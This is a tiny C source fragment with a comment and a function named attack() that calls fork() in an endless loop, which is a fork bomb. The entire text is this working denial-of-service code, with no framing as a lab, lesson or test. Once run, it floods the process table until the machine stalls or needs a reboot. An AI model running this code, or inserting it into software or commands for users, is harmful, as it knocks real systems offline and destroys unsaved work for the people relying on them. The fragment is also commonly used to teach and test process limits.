/* Forks endlessly, in every child as well. */
static void attack(void)
{
    for (;;)
        fork();
}
